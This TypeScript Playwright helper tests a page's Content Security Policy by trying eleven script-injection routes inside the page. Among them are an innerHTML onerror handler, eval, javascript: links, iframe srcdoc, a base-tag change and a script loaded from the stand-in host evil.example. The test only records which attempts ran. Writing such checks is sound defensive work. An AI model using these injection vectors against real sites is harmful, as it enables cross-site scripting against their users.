import type { Page } from "@playwright/test";

const EVIL = "https://evil.example";

/**
 * Tries what injected text or a stolen script tag would try, in the page itself.
 * @returns names of the attempts that ran
 */
export async function attack(page: Page): Promise<string[]> {
  await page.route(`${EVIL}/**`, (route) =>
    route.fulfill({
      contentType: "text/javascript",
      headers: { "access-control-allow-origin": "*" },
      body: "window.ran?.push('a foreign script')",
    }),
  );
  return page.evaluate(async (evil) => {
    const ran: string[] = [];
    Object.assign(window, { ran });
    const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
    // In its first turn a script of the debugger may do what the page may not.
    await pause(50);
    const push = (name: string) => `(window.ran ?? parent.ran).push(${JSON.stringify(name)})`;
    const script = (change: (element: HTMLScriptElement) => void) => {
      const element = document.createElement("script");
      change(element);
      document.body.append(element);
    };
    const attempts: Record<string, () => void> = {
      "an inline script": () => {
        script((element) => element.append(push("an inline script")));
      },
      "a handler through innerHTML": () => {
        const box = document.createElement("div");
        document.body.append(box);
        box.innerHTML = `<img src="data:," onerror="${push("a handler through innerHTML").replaceAll('"', "&quot;")}">`;
      },
      "a foreign script": () => {
        script((element) => {
          element.src = `${evil}/a.js`;
        });
      },
      "a data: script": () => {
        script((element) => {
          element.src = `data:text/javascript,${encodeURIComponent(push("a data: script"))}`;
        });
      },
      "a blob: script": () => {
        script((element) => {
          element.src = URL.createObjectURL(new Blob([push("a blob: script")]));
        });
      },
      // biome-ignore lint/security/noGlobalEval: the attack itself
      eval: () => window.eval(push("eval")),
      "a function of text": () => new Function(push("a function of text"))(),
      "a timer with text": () =>
        void setTimeout(push("a timer with text") as unknown as () => void),
      "a javascript: address": () => {
        const link = document.createElement("a");
        link.setAttribute("href", `javascript:void ${push("a javascript: address")}`);
        document.body.append(link);
        link.click();
      },
      "a frame with text": () => {
        const frame = document.createElement("iframe");
        frame.srcdoc = `<script>parent.${push("a frame with text").replace("(window.ran ?? parent.ran)", "ran")}</script>`;
        document.body.append(frame);
      },
      "another base": () => {
        const base = document.createElement("base");
        base.href = `${evil}/`;
        document.head.prepend(base);
        if (document.baseURI.startsWith(evil)) ran.push("another base");
        base.remove();
      },
    };
    for (const attempt of Object.values(attempts)) {
      try {
        attempt();
      } catch {
        // Refused at once, which is as good as refused later.
      }
      await pause(20);
    }
    await pause(300);
    return [...new Set(ran)].sort();
  }, EVIL);
}

/** Everything that `attack` tries. */
export const attacks = [
  "a blob: script",
  "a data: script",
  "a foreign script",
  "a frame with text",
  "a function of text",
  "a handler through innerHTML",
  "a javascript: address",
  "a timer with text",
  "an inline script",
  "another base",
  "eval",
];
